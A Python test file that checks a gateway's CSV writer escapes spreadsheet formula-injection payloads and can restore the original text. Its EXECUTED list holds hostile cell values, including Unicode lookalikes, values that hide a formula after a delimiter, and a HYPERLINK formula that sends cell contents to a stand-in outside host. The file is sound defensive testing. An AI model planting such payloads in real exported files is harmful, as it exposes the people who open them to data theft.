"""A spreadsheet executes no cell of a file that the gateway writes.

The gateway's own reader gives back every text.
"""

import csv
import io
import re
import sys
import unicodedata
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.base.tabular import CsvWriter, restored, spreadsheet_cell

ROOT = Path(__file__).parents[3]
EXECUTED = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "@SUM(1+1)*2",
    "+254 is the code",
    "-2+3 is it",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u22122+3",
    '"=1+1',
    "'=1+1",
    "a;=1+1",
    "a\t+1+1",
    "a\n@SUM(1)",
    '; "=1+1',
)


def begins(text: str) -> list[str]:
    """Return the beginnings of the cells that a spreadsheet of any region may see in this text."""
    return [part.lstrip(' "\u200b') for part in re.split(r"[;\t\r\n]", text)]


@pytest.mark.parametrize("text", EXECUTED)
def test_a_cell_that_would_be_executed_is_shown(text: str) -> None:
    for cell in begins(spreadsheet_cell(text)):
        assert not cell.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212"))  # fmt: skip
    assert restored(spreadsheet_cell(text)) == text


@pytest.mark.parametrize("text", ["-20", "-20.50", "-1,000.00", "20", "Amina", "a-b", "x=1", "", "'tis", "KES 3"])  # fmt: skip
def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
    assert spreadsheet_cell(text) == text


@given(st.text(st.sampled_from("=+-@'\"; \t\n1a,.\uff1d\u200b\u2212"), max_size=12))
def test_every_text_is_restored(text: str) -> None:
    assert restored(spreadsheet_cell(text)) == text


@given(st.lists(st.text(max_size=8), min_size=1, max_size=4))
def test_raw_is_for_programs(cells: list[str]) -> None:
    line = CsvWriter(raw=True).row(cells)
    if not any("\0" in cell or "\r" in cell for cell in cells):
        assert next(csv.reader([line], strict=True), []) == cells or "\n" in "".join(cells)


def test_numbers_are_written_as_numbers() -> None:
    assert CsvWriter().row([1, -2.5, None, "=x"]) == "1,-2.5,,'=x\r\n"


def test_nothing_else_writes_csv() -> None:
    """A second writer would be one whose cells a spreadsheet executes."""
    own = ROOT / "gateway" / "base" / "tabular" / "writer.py"
    others = [
        path
        for path in (ROOT / "gateway").rglob("*.py")
        if path != own and re.search(r"\bcsv\.(Dict)?[Ww]riter\b|from csv import", path.read_text())
    ]
    assert others == []


def test_nothing_else_reads_csv() -> None:
    own = ROOT / "gateway" / "base" / "tabular" / "delimited.py"
    others = [
        path
        for path in (ROOT / "gateway").rglob("*.py")
        if path != own and re.search(r"\bcsv\.(Dict)?[Rr]eader\b", path.read_text())
    ]
    assert others == []


_CELLS = st.one_of(
    st.text(st.sampled_from("=+-@'\"; \t\r\n1a,.|\uff1d\u200b\u2212\u2a75"), max_size=6),
    st.none(),
    st.integers(),
    st.floats(allow_nan=False),
)
_ROWS = st.lists(st.lists(_CELLS, min_size=1, max_size=4), max_size=4)


def written_cell_by_cell(rows: Sequence[Sequence[object]], delimiter: str, quoting: int) -> str:
    """Return what the writer must write: every cell is looked at on its own."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, quoting=quoting)  # pyright: ignore[reportArgumentType]
    for row in rows:
        cells = ["" if one is None else one for one in row]
        writer.writerow([spreadsheet_cell(one) if isinstance(one, str) else one for one in cells])
    return out.getvalue()


@given(_ROWS, st.sampled_from(",;|\t"), st.sampled_from((csv.QUOTE_ALL, csv.QUOTE_MINIMAL)))
def test_a_page_written_at_once_is_the_same_as_its_cells_one_by_one(
    rows: list[list[object]], delimiter: str, quoting: int
) -> None:
    writer = CsvWriter(delimiter=delimiter, quote_all=quoting == csv.QUOTE_ALL)
    assert writer.text(rows) == written_cell_by_cell(rows, delimiter, quoting)
    assert "".join(map(writer.row, rows)) == written_cell_by_cell(rows, delimiter, quoting)


def test_no_character_that_looks_like_a_dangerous_one_is_overlooked() -> None:
    for code in range(sys.maxunicode + 1):
        if 0xD800 <= code < 0xE000:  # A surrogate is no character.
            continue
        if unicodedata.normalize("NFKC", chr(code))[0] in "=+-@\u2212":
            for before in ("", " ", "a;", '"'):
                text = f"{before}{chr(code)}1+1"
                assert (
                    restored(CsvWriter(quote_all=True).row([text])[1:-3].replace('""', '"')) == text
                )
                assert CsvWriter().row([text]) == written_cell_by_cell(
                    [[text]], ",", csv.QUOTE_MINIMAL
                )
                assert "'" in CsvWriter().row([text])
